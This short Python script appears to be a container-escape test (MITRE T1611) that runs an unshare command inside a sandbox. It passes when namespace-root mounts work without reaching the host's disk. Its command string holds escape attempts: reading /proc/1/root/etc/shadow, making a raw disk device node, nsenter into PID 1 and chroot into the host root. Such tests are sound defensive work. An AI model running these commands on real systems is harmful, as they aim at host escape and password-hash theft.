#!/usr/bin/python3 -B
"""An attempt to escape: root in namespaces of its own, and mounts there (T1611).

It succeeds as an attempt: the mounts in the new namespaces work, the host's disk is not reached."""

from attack import Attack

TRY = ("unshare -Urmpf --mount-proc sh -c 'id -u; mount -t tmpfs none /tmp && echo mounted;"
       " mount -t sysfs none /sys; mount --bind / /tmp; cat /proc/1/root/etc/shadow;"
       " mknod /tmp/disk b 8 0; nsenter -t 1 -m id; chroot /proc/1/root id'")


def run(attack: Attack) -> bool:
    said = attack.cart(TRY)
    return attack.prove(said.startswith("0") and "mounted" in said, said=said)


Attack("T1611", ["edge", "cart"], ["namespaces", "/proc/1/root"]).main(run)
